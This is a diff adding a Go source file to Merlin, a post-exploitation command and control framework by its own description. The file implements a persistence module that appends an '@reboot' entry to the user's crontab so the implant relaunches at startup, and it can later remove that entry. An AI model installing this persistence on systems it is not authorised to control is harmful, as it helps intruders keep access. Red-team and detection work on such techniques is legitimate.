@@ -0,0 +1,96 @@
+//go:build linux || darwin || freebsd
+// +build linux darwin freebsd
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package persistence
+
+import (
+	// Standard
+	"bytes"
+	"fmt"
+	"os/exec"
+	"strings"
+)
+
+func init() {
+	register("cron", cron{})
+}
+
+// cron persists by adding an @reboot entry to the agent's user crontab
+type cron struct{}
+
+// Description explains where the method persists and when the command runs
+func (cron) Description() string {
+	return "@reboot entry in the current user's crontab, runs when the host starts"
+}
+
+// Privileged is true if the method requires root
+func (cron) Privileged() bool {
+	return false
+}
+
+// Install adds the @reboot entry to the crontab
+func (cron) Install(name, command string) (Record, error) {
+	line := fmt.Sprintf("@reboot %s", command)
+	lines, err := crontab()
+	if err != nil {
+		return Record{}, err
+	}
+	err = setCrontab(append(lines, line))
+	return Record{Artifact: line}, err
+}
+
+// Remove deletes the @reboot entry from the crontab
+func (cron) Remove(record Record) error {
+	lines, err := crontab()
+	if err != nil {
+		return err
+	}
+	var kept []string
+	for _, line := range lines {
+		if line != record.Artifact {
+			kept = append(kept, line)
+		}
+	}
+	return setCrontab(kept)
+}
+
+// crontab returns the lines of the current user's crontab, it is empty if the user does not have one
+func crontab() ([]string, error) {
+	out, err := exec.Command("crontab", "-l").Output() // #nosec G204
+	if err != nil {
+		// crontab exits with 1 when the user does not have a crontab
+		if _, ok := err.(*exec.ExitError); ok {
+			return nil, nil
+		}
+		return nil, fmt.Errorf("there was an error reading the crontab: %s", err)
+	}
+	return strings.Split(strings.TrimRight(string(out), "\n"), "\n"), nil
+}
+
+// setCrontab replaces the current user's crontab with the lines
+func setCrontab(lines []string) error {
+	cmd := exec.Command("crontab", "-") // #nosec G204
+	cmd.Stdin = bytes.NewBufferString(strings.Join(lines, "\n") + "\n")
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		return fmt.Errorf("there was an error writing the crontab: %s %s", err, out)
+	}
+	return nil
+}